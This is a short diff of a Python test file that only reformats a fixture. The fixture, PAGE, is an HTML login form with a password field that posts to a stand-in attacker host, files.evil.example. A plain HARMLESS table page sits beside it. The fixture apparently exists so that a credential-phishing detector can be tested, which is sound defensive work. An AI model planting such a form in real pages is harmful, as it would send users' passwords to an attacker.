@@ -9,7 +9,9 @@ from tests.reading.letters import letter, read
 
 pytestmark = pytest.mark.pure
 
-PAGE = b"<html><form action='https://files.evil.example/x'><input name=u><input class='f' type='password' name=w></form>"
+PAGE = (
+    b"<html><form action='https://files.evil.example/x'><input name=u><input class='f' type='password' name=w></form>"
+)
 HARMLESS = b"<html><body><table><tr><td>Bench</td><td>400</td></tr></table></body></html>"
 
 
